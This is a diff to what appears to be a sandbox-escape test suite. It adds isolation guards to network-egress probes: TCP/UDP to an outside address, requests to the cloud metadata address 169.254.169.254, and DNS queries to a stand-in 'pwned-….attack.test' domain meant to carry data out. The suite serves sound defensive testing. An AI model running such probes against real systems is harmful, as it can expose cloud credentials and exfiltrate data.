@@ -102,16 +102,19 @@ for _name, _address, _title in (
 
 @attack("network", "TCP to another address of the host", received("tcp"))
 def tcp_outside(t):
+    t.require_isolation()
     send_tcp(t.outside["address"], t.ports["tcp"])
 
 
 @attack("network", "UDP to another address of the host", received("udp"))
 def udp_outside(t):
+    t.require_isolation()
     send_udp(t.outside["address"], t.ports["udp"])
 
 
 @attack("network", "HTTP to the cloud metadata address 169.254.169.254", received("metadata"))
 def metadata(t):
+    t.require_isolation()
     send_tcp("169.254.169.254", 80)
 
 
@@ -133,11 +136,13 @@ def udplite_loopback(t):
 
 @attack("network", "resolve a name: the query has the data", received("dns"))
 def dns_resolver(t):
+    t.require_isolation()
     socket.getaddrinfo(f"pwned-{t.run_id}.attack.test", 80)
 
 
 @attack("network", "send a DNS query to the resolver directly", received("dns"))
 def dns_direct(t):
+    t.require_isolation()
     query = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + b"\x05pwned\x06attack\x04test\0\0\1\0\1"
     socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (t.outside["resolver"], 53))
 
@@ -224,6 +229,7 @@ for _name, _host in (("loopback", "127.0.0.1"), ("localhost", "localhost"), ("ip
 
 @attack("proxy", "ask the sandbox's proxy for the metadata address", received("metadata"))
 def proxy_metadata(t):
+    t.require_isolation()
     send_by_proxy("169.254.169.254", 80, "169.254.169.254")
 
 
